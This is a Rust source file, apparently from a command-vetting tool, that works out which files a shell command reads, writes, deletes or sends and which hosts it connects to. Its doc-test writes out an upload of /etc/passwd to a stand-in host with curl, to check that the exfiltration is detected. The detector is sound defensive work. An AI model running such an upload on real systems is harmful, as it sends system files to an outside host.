//! What one command does to files and other machines: a table has the programs (`data/effects.txt`).
//!
//! Effects are texts as the command spells them: a path is not normalised, and not joined to the
//! folder that the command runs in.

use std::borrow::Cow;

use crate::arguments::{Arguments, Name};
use crate::code_effects;
use crate::data::{self, Rows};
use crate::reading::{Command, Reading, RedirectKind, Word, base_name};

/// What is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum EffectKind {
    /// A file is read.
    Reads,
    /// A file is written to.
    Writes,
    /// A file is deleted, or its content.
    Deletes,
    /// A host is connected to.
    Connects,
    /// A file, or the value of a variable (`$NAME`), goes to a host.
    Sends,
    /// A word is a path, and what is done with it is not known.
    Mentions,
}

impl EffectKind {
    /// All kinds, with the names that rules use.
    pub const ALL: [(&'static str, Self); 6] = [
        ("reads", Self::Reads),
        ("writes", Self::Writes),
        ("deletes", Self::Deletes),
        ("connects", Self::Connects),
        ("sends", Self::Sends),
        ("mentions", Self::Mentions),
    ];

    /// The name that rules use.
    #[must_use]
    pub fn name(self) -> &'static str {
        Self::ALL.get(self as usize).map_or("", |(name, _)| name)
    }

    /// The kind of this name.
    #[must_use]
    pub fn named(name: &str) -> Option<Self> {
        let found = Self::ALL.iter().find(|(other, _)| *other == name);
        found.map(|(_, kind)| *kind)
    }
}

/// One effect.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Effect<'r> {
    /// What is done.
    pub kind: EffectKind,
    /// The path, or the host and, where it is known, the port: `example.com:443`.
    pub text: Cow<'r, str>,
    /// Whether the text is certain.
    pub known: bool,
}

/// The most commands before a command in its pipe, or in a substitution, whose files it may send.
const SENT_AT_MOST: usize = 16;

/// The effects of a command.
///
/// ```
/// let reading = sentry_command::read(&["curl", "-T", "/etc/passwd", "https://x.test/up"]);
/// let arguments = sentry_command::arguments(&reading.commands[0]);
/// let effects = sentry_command::effects(&reading, 0, &arguments);
/// let shown: Vec<String> = effects.iter().map(|one| format!("{} {}", one.kind.name(), one.text)).collect();
/// assert_eq!(shown, ["reads /etc/passwd", "sends /etc/passwd", "connects x.test:443"]);
/// ```
#[must_use]
pub fn effects<'r>(reading: &'r Reading, at: usize, arguments: &Arguments<'r>) -> Vec<Effect<'r>> {
    let Some(command) = reading.commands.get(at) else {
        return Vec::new();
    };
    let mut found = Finder::new(command, arguments);
    found.of_table();
    let from = reading.code.partition_point(|code| code.command < at);
    let code = reading.code.iter().skip(from);
    for code in code.take_while(|code| code.command == at) {
        code_effects::add(code, &mut found.effects);
    }
    if found.sends_input {
        found.send_pipe(reading, at);
    }
    if found
        .effects
        .iter()
        .any(|one| one.kind == EffectKind::Connects)
    {
        found.send_words(reading);
    }
    found.effects
}

/// Whether the table has the program.
#[must_use]
pub fn has_known_effects(program: &str) -> bool {
    data::effects(program).is_some()
}

struct Finder<'f, 'r> {
    command: &'r Command,
    arguments: &'f Arguments<'r>,
    rows: Rows,
    /// Words behind the subcommand.
    operands: Vec<&'r Word>,
    /// For each operand, and behind them for each option, whether a row takes it.
    taken: Vec<bool>,
    effects: Vec<Effect<'r>>,
    port: Option<&'r str>,
    sends_input: bool,
}

impl<'f, 'r> Finder<'f, 'r> {
    fn new(command: &'r Command, arguments: &'f Arguments<'r>) -> Self {
        let words = &arguments.words;
        let text = |at: usize| words.get(at).map_or("", |word| word.text.as_str());
        let (rows, skipped) = data::effects_of(arguments.program, [text(0), text(1)]);
        let operands: Vec<&Word> = words.iter().skip(skipped).copied().collect();
        Self {
            command,
            arguments,
            rows,
            taken: vec![false; operands.len() + arguments.options.len()],
            operands,
            effects: Vec::new(),
            port: None,
            sends_input: false,
        }
    }

    fn of_table(&mut self) {
        self.redirects();
        let rows = self.rows;
        for row in rows.all(b'p') {
            self.select_port(row);
        }
        for (key, kind) in [
            (b't', None),
            (b'r', Some(EffectKind::Reads)),
            (b's', Some(EffectKind::Sends)),
            (b'w', Some(EffectKind::Writes)),
            (b'd', Some(EffectKind::Deletes)),
            (b'c', Some(EffectKind::Connects)),
        ] {
            for row in rows.all(key) {
                self.row(row, kind);
            }
        }
        self.mentions();
    }

    /// Adds what a row of the table says.
    fn row(&mut self, row: &'static str, kind: Option<EffectKind>) {
        let Some(selectors) = self.condition(row) else {
            return;
        };
        for selector in selectors.split(' ') {
            if selector == "input" {
                self.sends_input = true;
            } else {
                self.select(selector, kind);
            }
        }
    }

    /// The selectors of a row, if what it asks for behind `if` and `unless` holds.
    fn condition(&self, row: &'static str) -> Option<&'static str> {
        let has = |flags: &str| flags.split(' ').any(|flag| self.arguments.has_flag(flag));
        if let Some((selectors, flags)) = row.split_once(" if ") {
            return has(flags).then_some(selectors);
        }
        if let Some((selectors, flags)) = row.split_once(" unless ") {
            return (!has(flags)).then_some(selectors);
        }
        Some(row)
    }

    fn select_port(&mut self, selector: &str) {
        let mut found = None;
        self.each(selector, &mut |at, text, _| found = Some((at, text)));
        if let Some((at, text)) = found {
            self.take(at);
            self.port = Some(text);
        }
    }

    fn take(&mut self, at: usize) {
        if let Some(taken) = self.taken.get_mut(at) {
            *taken = true;
        }
    }

    fn select(&mut self, selector: &'static str, kind: Option<EffectKind>) {
        let mut found = Vec::new();
        self.each(selector, &mut |at, text, word| found.push((at, text, word)));
        let remote = self.rows.has(b'R');
        let goes_out = remote
            && self
                .operands
                .last()
                .is_some_and(|word| is_remote(&word.text));
        for (at, text, word) in found {
            self.take(at);
            let Some(kind) = kind else { continue };
            match kind {
                EffectKind::Connects => self.connects(text, word.known),
                _ if remote && is_remote(text) => self.connects(host_of_remote(text), word.known),
                _ if text.is_empty() || text == "-" => {
                    self.sends_input |= kind == EffectKind::Sends;
                }
                EffectKind::Writes
                    if selector.ends_with('/') || text.len() > 1 && text.ends_with('/') =>
                {
                    self.write_into(selector, text, word.known);
                }
                _ => {
                    if kind == EffectKind::Sends {
                        self.add(EffectKind::Reads, text, word.known);
                    }
                    self.add(kind, text, word.known);
                    let is_operand = !selector.starts_with('-');
                    if goes_out && is_operand && kind == EffectKind::Reads {
                        self.add(EffectKind::Sends, text, word.known);
                    }
                }
            }
        }
    }

    /// Calls `each` with the texts of a selector, and the place of each in `taken`.
    fn each(&self, selector: &str, each: &mut dyn FnMut(usize, &'r str, &'r Word)) {
        let (name, separator) = match selector.strip_suffix('@') {
            Some(name) => (name, true),
            None => (selector, false),
        };
        if name.starts_with('-') || name.ends_with('=') {
            let name = name.trim_end_matches(['=', '/']);
            for (at, option) in (self.operands.len()..).zip(&self.arguments.options) {
                let Some(value) = option.value.filter(|_| option.name.is(name)) else {
                    continue;
                };
                if !separator {
                    each(at, value, option.word);
                } else if let Some((_, file)) = value.split_once(['@', '<']) {
                    each(at, file.split(';').next().unwrap_or(file), option.word);
                }
            }
            return;
        }
        let count = self.operands.len();
        let range = match name {
            "all" => 0..count,
            "last" => count.saturating_sub(1)..count,
            "but-last" => 0..count.saturating_sub(1),
            _ => {
                let number = |text: &str| text.parse().unwrap_or(1_usize) - 1;
                match name.strip_suffix("..") {
                    Some(from) => number(from)..count,
                    None => number(name)..count.min(number(name) + 1),
                }
            }
        };
        for at in range {
            let Some(word) = self.operands.get(at) else {
                break;
            };
            match (separator, word.text.split_once('@')) {
                (false, _) => each(at, &word.text, word),
                (true, Some((_, file))) => each(at, file, word),
                (true, None) => {}
            }
        }
    }

    fn redirects(&mut self) {
        use RedirectKind::{Append, Duplicate, Read, ReadWrite, Text, Write};
        for redirect in &self.command.redirects {
            let (text, known) = (redirect.target.text.as_str(), redirect.target.known);
            match redirect.kind {
                Read => self.add(EffectKind::Reads, text, known),
                Write | Append => self.add(EffectKind::Writes, text, known),
                ReadWrite => {
                    self.add(EffectKind::Reads, text, known);
                    self.add(EffectKind::Writes, text, known);
                }
                Duplicate | Text => {}
            }
            if redirect.kind == Write && is_record(text) {
                self.add(EffectKind::Deletes, text, known);
            }
        }
    }

    /// Words that no row takes, as a whole and the parts behind `=`, `:`, `@` and `,`.
    fn mentions(&mut self) {
        let operands = self.operands.iter().map(|word| (word.text.as_str(), *word));
        let options = self.arguments.options.iter();
        let values = options.map(|one| match one.name {
            // `name=value` is an operand, too.
            Name::Long(name) if !name.starts_with('-') => ("", one.word),
            _ => (one.value.unwrap_or_default(), one.word),
        });
        let all: Vec<_> = operands.chain(values).collect();
        for ((text, word), taken) in all.into_iter().zip(std::mem::take(&mut self.taken)) {
            let is_word = text
                .bytes()
                .any(|byte| byte.is_ascii_alphabetic() || b"/~*.".contains(&byte));
            if taken || !is_word || text.contains(char::is_whitespace) {
                continue;
            }
            self.add(EffectKind::Mentions, text, word.known);
            if text.contains("://") {
                continue;
            }
            let parts = text.split(['=', ':', '@', ',']).skip(1).take(SENT_AT_MOST);
            for part in parts.filter(|part| part.contains('/') || part.starts_with(['~', '.'])) {
                self.add(EffectKind::Mentions, part, word.known);
            }
        }
    }

    /// Adds that files are written into a folder: with the name of what is copied there, or any.
    fn write_into(&mut self, selector: &str, folder: &str, known: bool) {
        let first = self.operands.first().filter(|_| selector == "last");
        let name = first.map_or("*", |word| base_name(&word.text));
        let text = Cow::Owned([folder.trim_end_matches('/'), "/", name].concat());
        let kind = EffectKind::Writes;
        self.effects.push(Effect { kind, text, known });
    }

    fn add(&mut self, kind: EffectKind, text: &'r str, known: bool) {
        self.effects.push(Effect {
            kind,
            text: Cow::Borrowed(text),
            known,
        });
    }

    fn connects(&mut self, text: &'r str, known: bool) {
        let (kind, text) = match host(text, self.port) {
            Some(host) => (EffectKind::Connects, host),
            // An address without a host is a file: `file:///etc/passwd`, `/etc/passwd`.
            None if text.contains('/') => (EffectKind::Reads, Cow::Borrowed(text)),
            None => return,
        };
        self.effects.push(Effect { kind, text, known });
    }

    /// What the commands before it in its pipe read goes out, and what it reads by `<`.
    fn send_pipe(&mut self, reading: &'r Reading, at: usize) {
        let own = self.effects.iter();
        let read = own.filter(|one| one.kind == EffectKind::Reads).cloned();
        let mut sent: Vec<_> = if self.command.redirects.is_empty() {
            Vec::new()
        } else {
            read.collect()
        };
        let end = |stages: &[std::ops::Range<usize>]| stages.last().map_or(0, |stage| stage.end);
        let pipes = &reading.pipelines;
        let first = pipes.partition_point(|pipe| end(&pipe.stages) <= at);
        let mut around = pipes.iter().skip(first).take(SENT_AT_MOST);
        if let Some(pipe) = around.find(|pipe| {
            let start = pipe.stages.first().map_or(usize::MAX, |stage| stage.start);
            start <= at
        }) {
            let from = pipe.stages.first().map_or(0, |stage| stage.start);
            let stage = pipe.stages.iter().find(|stage| stage.contains(&at));
            let before = from..stage.map_or(at, |stage| stage.start);
            for command in before.take(SENT_AT_MOST) {
                sent.extend(reads(reading, command));
            }
        }
        self.send(sent);
    }

    /// What substitutions in its words read goes out, and the values of variables.
    fn send_words(&mut self, reading: &'r Reading) {
        let mut sent = Vec::new();
        for word in self.command.words.iter().skip(1) {
            for list in word.lists.iter().take(SENT_AT_MOST) {
                let commands = reading.commands.iter().enumerate();
                let of_list = commands.filter(|(_, command)| command.list == *list);
                for (at, _) in of_list.take(SENT_AT_MOST) {
                    sent.extend(reads(reading, at));
                }
            }
            if !word.known {
                sent.extend(variables(&word.text).map(|name| Effect {
                    kind: EffectKind::Sends,
                    text: Cow::Owned(["$", name].concat()),
                    known: true,
                }));
            }
            if sent.len() > SENT_AT_MOST * SENT_AT_MOST {
                break;
            }
        }
        self.send(sent);
    }

    fn send(&mut self, read: Vec<Effect<'r>>) {
        for one in read {
            let sends = Effect {
                kind: EffectKind::Sends,
                ..one
            };
            if !self.effects.contains(&sends) {
                self.effects.push(sends);
            }
        }
    }
}

/// What a command reads, apart from what it is given.
fn reads(reading: &Reading, at: usize) -> Vec<Effect<'_>> {
    let Some(command) = reading.commands.get(at) else {
        return Vec::new();
    };
    let arguments = crate::arguments(command);
    let mut found = Finder::new(command, &arguments);
    found.of_table();
    let mut effects = found.effects;
    effects.retain(|one| one.kind == EffectKind::Reads);
    effects
}

/// The names of variables in a text.
fn variables(text: &str) -> impl Iterator<Item = &str> {
    text.split('$').skip(1).filter_map(|rest| {
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        let end = |c: char| !c.is_ascii_alphanumeric() && c != '_';
        let name = rest.get(..rest.find(end).unwrap_or(rest.len()))?;
        (!name.is_empty()).then_some(name)
    })
}

/// Whether a file is a record of what happened: a log, or a history of commands.
fn is_record(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    path.starts_with("/var/log/") || name.ends_with("_history") || name == ".histfile"
}

/// Whether an operand is `host:path`, or an address.
fn is_remote(text: &str) -> bool {
    let (host, path) = text.split_once(':').unwrap_or_default();
    // `C:/x` and `C:\x` are paths of Windows; `c:/x` is one of a host on all other systems.
    let is_drive = matches!(host.as_bytes(), [b'A'..=b'Z']) && path.starts_with(['/', '\\']);
    text.contains("://") || !(host.is_empty() || is_drive || host.contains('/'))
}

fn host_of_remote(text: &str) -> &str {
    if text.contains("://") {
        text
    } else {
        text.split_once(':').map_or(text, |(host, _)| host)
    }
}

/// The host of an address, of `user@host` or of `host:port`, with its port where that is known.
fn host<'t>(text: &'t str, port: Option<&str>) -> Option<Cow<'t, str>> {
    let (scheme, rest) = text.split_once("://").unwrap_or(("", text));
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = rest.get(..end)?;
    let host = authority.rsplit('@').next().unwrap_or(authority);
    if host.is_empty() || host.contains(char::is_whitespace) || host.starts_with('-') {
        return None;
    }
    let bare = host.rsplit(']').next().unwrap_or(host);
    let usual = match scheme {
        "http" | "ws" => Some("80"),
        "https" | "wss" => Some("443"),
        "ftp" => Some("21"),
        "ssh" | "sftp" => Some("22"),
        _ => None,
    };
    let port = port
        .filter(|port| port.bytes().all(|byte| byte.is_ascii_digit()))
        .or(usual);
    Some(match port.filter(|_| !bare.contains(':')) {
        Some(port) => Cow::Owned([host, ":", port].concat()),
        None => Cow::Borrowed(host),
    })
}

/// The host of an address in code.
pub(crate) fn host_of_address(text: &str) -> Option<Cow<'_, str>> {
    host(text, None)
}
